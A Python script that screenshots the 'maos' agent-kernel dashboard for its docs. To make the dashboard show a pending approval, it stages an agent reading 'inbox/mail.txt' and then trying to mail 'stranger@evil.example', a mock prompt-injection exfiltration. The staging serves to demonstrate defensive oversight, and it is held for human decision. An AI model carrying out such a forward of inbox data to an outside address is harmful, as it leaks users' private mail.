"""The dashboard's screenshots in docs/img/ (docs/dashboard.md shows them).

Runs `maos demo` into a fresh data dir (a real run: agents, an injection refused, mail
sent), then serves that data dir with a real kernel, parks one stranger mail so a
decision waits, and photographs the page in Debian's Chromium at 1280 and 1920 px.

    PYTHONPATH=src python scripts/screenshots.py [OUT_DIR]
"""

from __future__ import annotations

import asyncio
import subprocess
import sys
import tempfile
from pathlib import Path

from playwright.async_api import async_playwright

from maos.commander.web import Dashboard, load_or_create_token
from maos.kernel.kernel import Kernel, KernelConfig
from maos.kernel.tokens import Grant
from maos.testing import intent_frame, task_with_untrusted_mail

CHROMIUM = "/usr/bin/chromium"
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"]
WIDTHS = (1280, 1920)


async def shoot(data_dir: Path, out: Path) -> None:
    kernel = await Kernel.boot(KernelConfig(data_dir=data_dir, follow_interval=0.05))
    try:
        token = await task_with_untrusted_mail(
            kernel, [Grant("fs.read", "*"), Grant("email.send", "*")]
        )
        await kernel.submit(intent_frame(token, "fs.read", "inbox/mail.txt", "r1"), agent_id="a1")
        mail = intent_frame(
            token, "email.send", "stranger@evil.example", "m1", subject="fwd", body="see below"
        )
        await kernel.submit(mail, agent_id="a1")
        dashboard = Dashboard(kernel, load_or_create_token(data_dir))
        server = asyncio.create_task(dashboard.serve())
        await dashboard.started()
        try:
            async with async_playwright() as pw:
                browser = await pw.chromium.launch(executable_path=CHROMIUM, args=ARGS)
                for width in WIDTHS:
                    page = await browser.new_page(viewport={"width": width, "height": 1000})
                    await page.goto(dashboard.login_url)
                    await page.locator("#connection", has_text="live").wait_for()
                    await page.locator("#chart rect.bar").first.wait_for()
                    await page.screenshot(path=str(out / f"dashboard-{width}.png"), type="png")
                    await page.close()
                await browser.close()
        finally:
            dashboard.stop()
            await server
    finally:
        await kernel.close()


def main() -> None:
    out = Path(sys.argv[1] if len(sys.argv) > 1 else "docs/img")
    out.mkdir(parents=True, exist_ok=True)
    with tempfile.TemporaryDirectory() as tmp:
        data_dir = Path(tmp) / "demo"
        maos = str(Path(sys.executable).with_name("maos"))
        subprocess.run([maos, "demo", "--data-dir", str(data_dir)], check=True, capture_output=True)
        asyncio.run(shoot(data_dir, out))
    print(f"wrote {', '.join(f'dashboard-{w}.png' for w in WIDTHS)} to {out}")


if __name__ == "__main__":
    main()
